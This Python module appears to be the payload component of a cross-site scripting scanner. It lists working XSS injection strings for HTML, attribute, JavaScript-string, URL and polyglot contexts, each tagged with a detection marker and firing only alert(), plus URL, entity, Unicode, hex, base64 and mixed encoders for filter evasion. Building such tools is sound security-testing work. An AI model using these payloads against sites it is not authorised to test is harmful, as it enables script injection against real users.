"""XSS payload catalogue, grouped by injection context, with encoders."""

from __future__ import annotations

import base64
from dataclasses import dataclass
from enum import Enum

__all__ = [
    "PayloadCategory",
    "PayloadContext",
    "PayloadEncoding",
    "XssPayload",
    "PayloadGenerator",
]

DEFAULT_MARKER = "KALAMARI_XSS"


class PayloadCategory(Enum):
    """The technique a payload relies on."""

    SCRIPT_TAG = "ScriptTag"
    EVENT_HANDLER = "EventHandler"
    SVG = "Svg"
    IMG_TAG = "ImgTag"
    IFRAME = "Iframe"
    OBJECT_EMBED = "ObjectEmbed"
    URL_BASED = "UrlBased"
    CSS_BASED = "CssBased"
    TEMPLATE = "Template"
    DOM_BASED = "DomBased"
    POLYGLOT = "Polyglot"


class PayloadContext(Enum):
    """Where in a page a payload is meant to land."""

    HTML_CONTENT = "HtmlContent"
    ATTRIBUTE_DOUBLE = "AttributeDouble"
    ATTRIBUTE_SINGLE = "AttributeSingle"
    ATTRIBUTE_UNQUOTED = "AttributeUnquoted"
    JS_STRING_DOUBLE = "JsStringDouble"
    JS_STRING_SINGLE = "JsStringSingle"
    JS_TEMPLATE_LITERAL = "JsTemplateLiteral"
    JS_CODE = "JsCode"
    CSS = "Css"
    URL = "Url"
    JSON = "Json"
    UNIVERSAL = "Universal"


class PayloadEncoding(Enum):
    """How a payload is encoded before it is sent."""

    NONE = "None"
    URL = "Url"
    HTML_ENTITY = "HtmlEntity"
    UNICODE = "Unicode"
    BASE64 = "Base64"
    HEX = "Hex"
    MIXED = "Mixed"


@dataclass(frozen=True)
class XssPayload:
    """A payload together with what it targets and how it is detected."""

    payload: str
    category: PayloadCategory
    context: PayloadContext
    description: str
    encoding: PayloadEncoding = PayloadEncoding.NONE
    requires_js: bool = True
    trigger_function: str = "alert"


def _url_byte(char: str) -> str:
    return f"%{ord(char) & 0xFF:02X}"


def _html_entity(char: str) -> str:
    return f"&#{ord(char)};"


def _url_encode(payload: str) -> str:
    return "".join(
        c if c.isascii() and c.isalnum() else _url_byte(c) for c in payload
    )


def _mixed_encode(payload: str) -> str:
    encoders = (_html_entity, _url_byte, lambda c: c)
    return "".join(encoders[i % 3](c) for i, c in enumerate(payload))


class PayloadGenerator:
    """Builds payloads that carry a detection marker."""

    def __init__(self, marker: str = DEFAULT_MARKER) -> None:
        self._marker = marker

    @property
    def marker(self) -> str:
        """The marker embedded in every payload."""
        return self._marker

    def html_payloads(self) -> list[XssPayload]:
        """Payloads for injection into HTML element content."""
        m = self._marker
        ctx = PayloadContext.HTML_CONTENT
        return [
            XssPayload(f"<script>alert('{m}')</script>", PayloadCategory.SCRIPT_TAG, ctx,
                       "Basic script tag injection"),
            XssPayload(f"<img src=x onerror=alert('{m}')>", PayloadCategory.IMG_TAG, ctx,
                       "IMG tag onerror handler"),
            XssPayload(f"<svg onload=alert('{m}')>", PayloadCategory.SVG, ctx,
                       "SVG onload handler"),
            XssPayload(f"<body onload=alert('{m}')>", PayloadCategory.EVENT_HANDLER, ctx,
                       "Body onload handler"),
            XssPayload(f"<iframe src=\"javascript:alert('{m}')\">", PayloadCategory.IFRAME, ctx,
                       "Iframe with javascript URL"),
            XssPayload(f"<details open ontoggle=alert('{m}')>", PayloadCategory.EVENT_HANDLER, ctx,
                       "Details tag ontoggle handler"),
            XssPayload(f"<marquee onstart=alert('{m}')>", PayloadCategory.EVENT_HANDLER, ctx,
                       "Marquee onstart handler"),
            XssPayload(f"<video src=x onerror=alert('{m}')>", PayloadCategory.EVENT_HANDLER, ctx,
                       "Video tag onerror handler"),
            XssPayload(f"<audio src=x onerror=alert('{m}')>", PayloadCategory.EVENT_HANDLER, ctx,
                       "Audio tag onerror handler"),
            XssPayload(f"<input onfocus=alert('{m}') autofocus>", PayloadCategory.EVENT_HANDLER, ctx,
                       "Input autofocus with onfocus"),
        ]

    def attribute_double_payloads(self) -> list[XssPayload]:
        """Payloads that escape a double-quoted attribute value."""
        m = self._marker
        ctx = PayloadContext.ATTRIBUTE_DOUBLE
        return [
            XssPayload(f"\" onmouseover=\"alert('{m}')\" x=\"", PayloadCategory.EVENT_HANDLER, ctx,
                       "Break out of double-quoted attribute"),
            XssPayload(f"\"><script>alert('{m}')</script>", PayloadCategory.SCRIPT_TAG, ctx,
                       "Break attribute and inject script"),
            XssPayload(f"\"><img src=x onerror=alert('{m}')>", PayloadCategory.IMG_TAG, ctx,
                       "Break attribute and inject img"),
        ]

    def attribute_single_payloads(self) -> list[XssPayload]:
        """Payloads that escape a single-quoted attribute value."""
        m = self._marker
        ctx = PayloadContext.ATTRIBUTE_SINGLE
        return [
            XssPayload(f"' onmouseover='alert(\"{m}\")' x='", PayloadCategory.EVENT_HANDLER, ctx,
                       "Break out of single-quoted attribute"),
            XssPayload(f"'><script>alert('{m}')</script>", PayloadCategory.SCRIPT_TAG, ctx,
                       "Break single-quoted attribute and inject script"),
        ]

    def js_string_payloads(self) -> list[XssPayload]:
        """Payloads that escape JavaScript strings and template literals."""
        m = self._marker
        return [
            XssPayload(f"';alert('{m}');//", PayloadCategory.DOM_BASED,
                       PayloadContext.JS_STRING_SINGLE, "Break JS single-quoted string"),
            XssPayload(f"\";alert('{m}');//", PayloadCategory.DOM_BASED,
                       PayloadContext.JS_STRING_DOUBLE, "Break JS double-quoted string"),
            XssPayload(f"`;alert('{m}');//", PayloadCategory.DOM_BASED,
                       PayloadContext.JS_TEMPLATE_LITERAL, "Break JS template literal"),
            XssPayload("${alert('" + m + "')}", PayloadCategory.TEMPLATE,
                       PayloadContext.JS_TEMPLATE_LITERAL, "Template literal injection"),
        ]

    def url_payloads(self) -> list[XssPayload]:
        """Payloads for URL-valued sinks."""
        m = self._marker
        ctx = PayloadContext.URL
        return [
            XssPayload(f"javascript:alert('{m}')", PayloadCategory.URL_BASED, ctx,
                       "javascript: URL scheme"),
            XssPayload(f"data:text/html,<script>alert('{m}')</script>", PayloadCategory.URL_BASED,
                       ctx, "data: URL with HTML"),
        ]

    def polyglot_payloads(self) -> list[XssPayload]:
        """Payloads meant to work in several contexts at once."""
        m = self._marker
        ctx = PayloadContext.UNIVERSAL
        return [
            XssPayload(
                "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcLiCk=alert('" + m + "') )//",
                PayloadCategory.POLYGLOT, ctx, "Multi-context polyglot",
            ),
            XssPayload(
                f"'\"-->]]>*/</script><script>alert('{m}')</script>",
                PayloadCategory.POLYGLOT, ctx, "Script escape polyglot",
            ),
        ]

    def encode_payload(self, payload: str, encoding: PayloadEncoding) -> str:
        """Encode a payload; byte-oriented encodings keep only each character's low byte."""
        if encoding is PayloadEncoding.NONE:
            return payload
        if encoding is PayloadEncoding.URL:
            return _url_encode(payload)
        if encoding is PayloadEncoding.HTML_ENTITY:
            return "".join(_html_entity(c) for c in payload)
        if encoding is PayloadEncoding.UNICODE:
            return "".join(f"\\u{ord(c):04X}" for c in payload)
        if encoding is PayloadEncoding.HEX:
            return "".join(f"\\x{ord(c) & 0xFF:02X}" for c in payload)
        if encoding is PayloadEncoding.BASE64:
            return base64.b64encode(payload.encode("utf-8")).decode("ascii")
        if encoding is PayloadEncoding.MIXED:
            return _mixed_encode(payload)
        raise ValueError(f"unknown encoding: {encoding!r}")

    def all_payloads(self) -> list[XssPayload]:
        """Every payload, grouped by context in a fixed order."""
        return [
            *self.html_payloads(),
            *self.attribute_double_payloads(),
            *self.attribute_single_payloads(),
            *self.js_string_payloads(),
            *self.url_payloads(),
            *self.polyglot_payloads(),
        ]

    def payloads_for_context(self, context: PayloadContext) -> list[XssPayload]:
        """Payloads for the given context, plus the universal ones."""
        return [
            p for p in self.all_payloads()
            if p.context in (context, PayloadContext.UNIVERSAL)
        ]